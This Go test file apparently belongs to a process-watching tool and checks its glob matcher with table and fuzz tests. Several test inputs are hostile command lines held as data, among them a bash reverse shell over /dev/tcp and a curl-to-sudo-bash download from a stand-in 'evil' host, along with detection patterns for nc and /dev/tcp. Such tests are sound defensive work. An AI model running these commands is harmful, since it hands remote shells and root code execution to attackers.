package procwatch

import (
	"regexp"
	"strings"
	"testing"
)

func TestGlob(t *testing.T) {
	tests := []struct {
		pattern, s string
		want       bool
	}{
		{"nc *", "nc -z 127.0.0.1 1", true},
		{"nc *", "ncat -z", false},
		{"*", "", true},
		{"", "", true},
		{"", "x", false},
		{"*/dev/tcp/*", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", true},
		{"curl * | *sh", "curl -s http://evil/x | sudo bash", true},
		{"curl * | *sh", "curl -s http://evil/x | sudo bash -x", false},
		{"a?c", "abc", true},
		{"a?c", "ac", false},
		{`a\*c`, "a*c", true},
		{`a\*c`, "abc", false},
		{`a\?`, "a?", true},
		{`tail\`, `tail\`, true},
		{"**a**b**", "xxaxxbxx", true},
		{"*a*a*a*a*b", strings.Repeat("a", 200), false},
	}
	for _, tt := range tests {
		if got := compileGlob(tt.pattern).match(tt.s); got != tt.want {
			t.Errorf("glob %q on %q = %v, want %v", tt.pattern, tt.s, got, tt.want)
		}
	}
}

// globRegexp is the reference the fuzz test holds the glob to.
func globRegexp(pattern string) *regexp.Regexp {
	var b strings.Builder
	b.WriteString(`(?s)^`)
	for i := 0; i < len(pattern); i++ {
		switch c := pattern[i]; c {
		case '*':
			b.WriteString(`.*`)
		case '?':
			b.WriteString(`.`)
		case '\\':
			if i+1 < len(pattern) {
				i++
			}
			b.WriteString(regexp.QuoteMeta(pattern[i : i+1]))
		default:
			b.WriteString(regexp.QuoteMeta(string(c)))
		}
	}
	b.WriteString(`$`)
	return regexp.MustCompile(b.String())
}

func FuzzGlob(f *testing.F) {
	f.Add("curl * | *sh", "curl -s x | sh")
	f.Add(`a\*?*`, "a*bc")
	f.Add("**", "")
	f.Fuzz(func(t *testing.T, pattern, s string) {
		if !isASCII(pattern) || !isASCII(s) {
			return // the reference regexp works on runes, the glob on bytes
		}
		if got, want := compileGlob(pattern).match(s), globRegexp(pattern).MatchString(s); got != want {
			t.Fatalf("glob %q on %q = %v, regexp says %v", pattern, s, got, want)
		}
	})
}

func isASCII(s string) bool {
	for i := range len(s) {
		if s[i] >= 0x80 {
			return false
		}
	}
	return true
}
